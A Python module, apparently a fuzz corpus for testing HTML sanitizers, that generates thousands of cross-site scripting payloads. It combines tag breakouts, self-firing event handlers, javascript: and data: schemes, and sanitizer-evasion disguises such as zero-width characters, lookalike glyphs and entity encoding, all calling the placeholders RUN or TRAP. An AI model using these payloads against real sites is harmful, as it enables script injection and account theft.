"""Payloads put together out of parts: where they break out, what opens, how it runs, disguises.

Each one is marked with ``data-evil``, and would call ``RUN`` or load something from ``TRAP``. They
come in an order in which neighbours differ, so that every slice of them has something of all.
"""

from __future__ import annotations

import html
import itertools
import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

BREAKS = ("", '">', "'>", "</b>", "</p>", "--!>", "]]>", "</textarea>", "</title>", "</style>")
BREAKS_MORE = ("</template>", "</noscript>", "</iframe>", "*/", "`>", '\\">', "%22%3e", "</xmp>")

SELF_RUNNING = (
    ("img", "src=x", "onerror"),
    ("image", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("video", "", "onloadstart"),
    ("source", "src=x", "onerror"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("a", "href=# autofocus tabindex=0", "onfocus"),
    ("div", "contenteditable autofocus tabindex=0", "onfocus"),
    ("details", "open", "ontoggle"),
    ("iframe", "src=about:blank", "onload"),
    ("object", "data=x", "onerror"),
    ("embed", "src=x", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("style", "", "onload"),
    ("script", "src=x", "onerror"),
    ("body", "", "onpageshow"),
    ("marquee", "loop=1 width=0", "onfinish"),
    ("b", "style=animation:x .1s", "onanimationstart"),
    ("p", "style=transition:all .1s", "ontransitionend"),
    ("div", "popover", "onbeforetoggle"),
    ("dialog", "open", "onclose"),
    ("x-evil", "tabindex=0 autofocus", "onfocus"),
    ("img", "srcset=x", "onerror"),
    ("img", "loading=eager src=x:y", "onerror"),
    ("video", "poster=x", "onsuspend"),
)
TOUCHED = ("onmouseover", "onpointerenter", "onclick", "onkeydown", "oncopy", "onwheel", "onscroll")
RUNS = ("RUN", "window.RUN", "top.RUN", "[1].map(()=>RUN)", "eval('RUN')", "void`${RUN}`")

SCHEMES = (
    "javascript:RUN",
    "JavaScript:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "\x01javascript:RUN",
    " javascript:RUN",
    "javascript&colon;RUN",
    "javascript&#58;RUN",
    "&#106;avascript:RUN",
    "\\u006aavascript:RUN",
    "javascript:%52UN//RUN",
    "javascript://%0aRUN",
    "vbscript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg",
    "data:image/svg+xml,<svg onload=RUN>",
    "blob:TRAP/x",
    "filesystem:TRAP/x",
    "view-source:TRAP/x",
    "feed:javascript:RUN",
    "TRAP/x",
    "//TRAP/x",
    "https://user:RUN@TRAP/x",
)
TAKERS = (
    "<a data-evil href={0}>x</a>",
    "<iframe data-evil src={0}></iframe>",
    "<form data-evil action={0}><button>x</button></form>",
    "<button data-evil formaction={0}>x</button>",
    "<object data-evil data={0}></object>",
    "<embed data-evil src={0}>",
    "<base data-evil href={0}>",
    "<meta data-evil http-equiv=refresh content=0;url={0}>",
    "<svg data-evil><a xlink:href={0}><text>x</text></a></svg>",
    "<svg data-evil><use href={0} /></svg>",
    "<link data-evil rel=import href={0}>",
    "<img data-evil src={0}>",
    "<body data-evil background={0}>",
    "<p data-evil style=background:url({0})>x</p>",
    "[x]({0})",
    "![x]({0})",
    "<{0}>",
    "[x]: {0}",
    "{0}",
)

Disguise = Callable[[str], str]


def mixed(text: str) -> str:
    """Change the case of every other letter, but for what would run."""
    parts = text.split("RUN")
    return "RUN".join("".join(c.upper() if n % 2 else c for n, c in enumerate(p)) for p in parts)


def spaced(space: str) -> Disguise:
    return lambda text: text.replace(" ", space)


def split_by(letter: str) -> Disguise:
    """Put something that cannot be seen behind the first bracket."""
    return lambda text: text.replace("<", f"<{letter}", 1)


def look_alike(text: str) -> str:
    return text.translate(str.maketrans("<>\"'/=", "＜＞＂＇／＝"))


DISGUISES: tuple[Disguise, ...] = (
    str,
    mixed,
    spaced("/"),
    spaced("\n"),
    spaced("\t"),
    spaced("\x0c"),
    spaced("\u00a0"),
    split_by("\u200b"),
    split_by("\x00"),
    split_by("\ufeff"),
    look_alike,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(c)};" for c in text[:9]) + text[9:],
    lambda text: "".join(f"&#x{ord(c):x}" for c in text[:9]) + text[9:],
    lambda text: "".join(f"\\x{ord(c):02x}" for c in text[:6]) + text[6:],
    lambda text: "".join(f"\\u{ord(c):04x}" for c in text[:6]) + text[6:],
    lambda text: quote(text, safe="RUN"),
    lambda text: text + "<",
    lambda text: "<" + text,
    lambda text: text.replace(">", ""),
    lambda text: f"\u202e{text}\u202c",
    lambda text: f"\u2067{text}\u2069",
    lambda text: f"{{{{{text}}}}}",
    lambda text: f"${{{text}}}",
    lambda text: f"```\n{text}\n```",
    lambda text: f"<!--{text}",
    lambda text: f"<![CDATA[{text}",
    lambda text: f"<svg><desc>{text}",
    lambda text: f"<math><mi>{text}",
)


def bred() -> list[str]:
    """Return the whole brood, always the same."""
    chance = random.Random(20261126)
    found = dict.fromkeys(itertools.chain(runners(chance), touched(chance), leading(chance)))
    brood = list(found)
    chance.shuffle(brood)
    return brood


def runners(chance: random.Random) -> Iterator[str]:
    """Yield every tag that runs by itself, in every disguise, each in some place."""
    places = BREAKS + BREAKS_MORE
    for (tag, more, event), disguise in itertools.product(SELF_RUNNING, DISGUISES):
        run, mark = chance.choice(RUNS), chance.choice(("", '"', "'"))
        inner = " ".join(
            filter(None, (f"<{tag}", "data-evil", more, f"{event}={mark}{run}{mark}>"))
        )
        yield chance.choice(places) + disguise(inner)
    for (tag, more, event), place in itertools.product(SELF_RUNNING, places):
        yield f"{place}<{tag} data-evil {more} {event}=RUN>"


def touched(chance: random.Random) -> Iterator[str]:
    """Yield attributes that break out of another one and wait to be touched."""
    for event, mark, disguise in itertools.product(TOUCHED, ("'", '"', "`"), DISGUISES[:10]):
        yield disguise(f"x{mark} {event}={chance.choice(RUNS)} data-evil={mark}")


def leading(chance: random.Random) -> Iterator[str]:
    """Yield every way to lead somewhere, to every kind of place."""
    for taker, scheme in itertools.product(TAKERS, SCHEMES):
        mark = chance.choice(("", '"', "'"))
        yield taker.format(f"{mark}{scheme}{mark}" if taker[:1] == "<" else scheme)
